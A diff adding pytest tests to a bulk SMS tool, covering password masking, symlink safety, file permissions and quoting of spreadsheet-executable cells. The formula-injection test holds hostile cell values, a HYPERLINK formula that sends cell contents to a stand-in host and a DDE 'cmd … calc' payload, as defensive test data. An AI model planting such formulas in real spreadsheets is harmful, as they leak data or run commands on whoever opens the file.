@@ -1965,3 +1965,72 @@ def test_swallowed_row_to_a_short_code_is_refused(tmp_path: Path) -> None:
     )
     with pytest.raises(TableError, match="row 2: the text cell runs over several lines"):
         list(open_table(source).rows())
+
+
+def test_a_redis_password_in_the_query_is_masked_too(tmp_path: Path) -> None:
+    """redis-py also reads ``?password=`` (the usual form with a unix socket): masked as well."""
+    source = tmp_path / "in.csv"
+    write_rows(source, 3)
+    url = "unix:///run/redis.sock?db=0&password=s3cret"
+    argv = ["bulk", str(source), "--redis", url, "--api-key", "k"]
+    command = _resume_command(BulkRun(build_parser().parse_args(argv), open_table(source)))
+    assert "s3cret" not in command
+    assert "unix:///run/redis.sock?db=0&password=***" in shlex.split(command)
+
+
+@pytest.mark.anyio
+async def test_results_cells_a_spreadsheet_would_run_are_quoted(tmp_path: Path) -> None:
+    """A recipient cell such as ``=HYPERLINK(...)`` or ``@SUM(...)`` (a list filled from a web
+    form) is written to RESULTS as text (a leading ``'``), so opening RESULTS in Excel does not
+    run it; a phone number stays as it is."""
+    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
+    hostile = ['=HYPERLINK("http://x/?"&A1)', "@SUM(1+1)", "-2+3", "+1844=cmd|' /C calc'!A0"]
+    rows = ["+18445550001", *hostile]
+    source.write_text(
+        "from,to,text\n"
+        + "".join(f'+18005550101,"{to.replace(chr(34), 2 * chr(34))}",hi\n' for to in rows),
+        encoding="utf-8",
+    )
+    async with FakeTelnyx() as fake:
+        assert await bulk(fake, str(source), "--out", str(out)) == 1
+    records = results(out)
+    assert records[0]["to"] == "+18445550001"
+    assert [r["to"] for r in records[1:]] == [f"'{to}" for to in hostile]
+    for record in records:
+        assert record["error"][:1] not in ("=", "+", "-", "@"), record
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("planted", [".lock", ".tmp", ".journal.tmp"])
+async def test_a_symlink_planted_beside_results_is_not_followed(
+    tmp_path: Path, planted: str
+) -> None:
+    """Someone who can write to the output directory plants a symlink where the run creates
+    its lock or temporary files: the file it points to is never written."""
+    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
+    write_rows(source, 5)
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious\n")
+    (tmp_path / f"out.csv{planted}").symlink_to(victim)
+    async with FakeTelnyx() as fake:
+        code = await bulk(fake, str(source), "--out", str(out))
+    assert victim.read_text() == "precious\n"
+    assert code in (0, 2)
+
+
+@pytest.mark.anyio
+async def test_results_and_journal_are_readable_by_their_owner_only(tmp_path: Path) -> None:
+    """RESULTS holds phone numbers and message ids: created 0600, as are the run's journal and
+    lock (whatever the umask)."""
+    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
+    write_rows(source, 5)
+    old = os.umask(0o022)
+    try:
+        async with FakeTelnyx() as fake:
+            assert await bulk(fake, str(source), "--out", str(out)) == 0
+    finally:
+        os.umask(old)
+    made = [p for p in sorted(os.listdir(tmp_path)) if p.startswith("out.csv")]
+    assert made == ["out.csv", "out.csv.journal", "out.csv.lock"]
+    modes = {name: oct(os.stat(tmp_path / name).st_mode & 0o777) for name in made}
+    assert modes == dict.fromkeys(made, "0o600")
